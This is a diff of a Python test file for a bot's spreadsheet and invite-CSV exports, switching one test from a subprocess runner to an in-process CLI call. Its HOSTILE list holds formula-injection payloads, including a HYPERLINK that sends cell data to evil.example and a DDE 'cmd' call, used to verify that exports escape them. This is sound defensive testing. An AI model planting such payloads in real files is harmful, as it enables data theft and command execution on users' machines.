@@ -12,7 +12,6 @@ from bot.db import session_scope
 from bot.i18n import use_language
 from bot.models import Indicator, Round, Submission, SubmissionValue, Unit
 from bot.services import cells, export_xlsx
-from cli_runner import congdoan
 from rollup_world import sqlite_world, unit_id, world_template  # noqa: F401  (fixtures)
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+1+cmd|' /C calc'!A0", "-2+3",
@@ -60,11 +59,12 @@ def test_round_workbook_writes_hostile_names_as_text_and_numbers_as_numbers(sqli
     assert negative and all(c.data_type == "n" and not c.quotePrefix for c in negative)
 
 
-def test_invites_csv_prefixes_hostile_unit_names(db_url, tmp_path):
-    assert congdoan(db_url, "demo").returncode == 0
+def test_invites_csv_prefixes_hostile_unit_names(demo_url, tmp_path, monkeypatch):
+    """`congdoan invite --all` on the demo province (seeded from the demo template, run in-process)."""
+    from bot.cli import main
     from bot.db import make_engine
 
-    engine = make_engine(db_url)
+    engine = make_engine(demo_url)
     with session_scope(engine) as s:
         units = s.exec(select(Unit).where(Unit.level == "grassroots", Unit.active == True)  # noqa: E712
                        .order_by(Unit.code).limit(len(HOSTILE))).all()
@@ -72,8 +72,8 @@ def test_invites_csv_prefixes_hostile_unit_names(db_url, tmp_path):
             unit.name = name
     engine.dispose()
     out = tmp_path / "invites.csv"
-    done = congdoan(db_url, "invite", "--all", "--out", str(out))
-    assert done.returncode == 0, done.stderr
+    monkeypatch.setenv("DATABASE_URL", demo_url)
+    assert main(["invite", "--all", "--out", str(out)]) == 0
     rows = list(csv.DictReader(out.open(encoding="utf-8-sig", newline="")))
     names = {r["unit_name"] for r in rows}
     for name in HOSTILE:
